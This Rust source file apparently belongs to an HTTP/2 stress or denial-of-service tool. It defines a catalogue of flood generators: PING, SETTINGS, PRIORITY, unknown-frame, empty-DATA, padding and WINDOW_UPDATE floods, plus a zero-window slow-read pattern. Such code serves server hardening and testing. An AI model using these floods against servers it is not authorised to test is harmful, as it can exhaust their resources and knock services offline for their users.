//! Frames that cost the client nothing and ask for work: control frames, empty ones, unknown ones, windows.

use super::attack::Flood;
use crate::http2::frames::{DATA, PADDED, PING, PRIORITY, SETTINGS, WINDOW_UPDATE, frame, headers, request, setting};

/// `SETTINGS_HEADER_TABLE_SIZE` and `SETTINGS_INITIAL_WINDOW_SIZE`, RFC 9113 section 6.5.2.
const TABLE_SIZE: u16 = 1;
const WINDOW: u16 = 4;

pub const FLOODS: &[Flood] = &[
    Flood::of("h2 PING", |n, out| {
        frame(out, PING, 0, 0, &u64::from(n).to_be_bytes());
        1
    }),
    Flood::of("h2 SETTINGS", |n, out| {
        setting(out, TABLE_SIZE, n % 2 * 4096);
        1
    }),
    Flood::of("h2 empty SETTINGS", |_, out| {
        frame(out, SETTINGS, 0, 0, &[]);
        1
    }),
    Flood::of("h2 PRIORITY", |n, out| {
        frame(out, PRIORITY, 0, 2 * n + 1, &[0, 0, 0, 0, 16]);
        1
    }),
    Flood::of("h2 unknown frames", |n, out| {
        frame(out, 0xfa, 0, 0, &n.to_be_bytes());
        1
    }),
    Flood {
        name: "h2 empty DATA",
        prelude: upload,
        ..Flood::of("", |_, out| {
            frame(out, DATA, 0, 1, &[]);
            1
        })
    },
    Flood {
        name: "h2 DATA of one byte",
        prelude: upload,
        ..Flood::of("", |_, out| {
            frame(out, DATA, 0, 1, b"x");
            1
        })
    },
    Flood {
        name: "h2 DATA of padding",
        prelude: upload,
        ..Flood::of("", |_, out| {
            let mut payload = [0; 256];
            payload[0] = 255;
            frame(out, DATA, PADDED, 1, &payload);
            1
        })
    },
    Flood {
        name: "h2 padding longer than its frame",
        prelude: upload,
        ..Flood::of("", |_, out| {
            frame(out, DATA, PADDED, 1, &[255, 0, 0]);
            1
        })
    },
    Flood::of("h2 WINDOW_UPDATE", |_, out| {
        frame(out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
        1
    }),
    Flood {
        name: "h2 WINDOW_UPDATE of a stream",
        prelude: upload,
        ..Flood::of("", |_, out| {
            frame(out, WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
            1
        })
    },
    Flood {
        name: "h2 zero windows under large answers",
        prelude: closed_window,
        waits: true,
        unit: |n, out| {
            if n == 100 {
                return 0;
            }
            headers(out, 2 * n + 1, &request("GET", "/large"), true);
            1
        },
    },
];

/// A request whose body never ends.
fn upload(out: &mut Vec<u8>) {
    headers(out, 1, &request("POST", "/upload"), false);
}

fn closed_window(out: &mut Vec<u8>) {
    setting(out, WINDOW, 0);
}
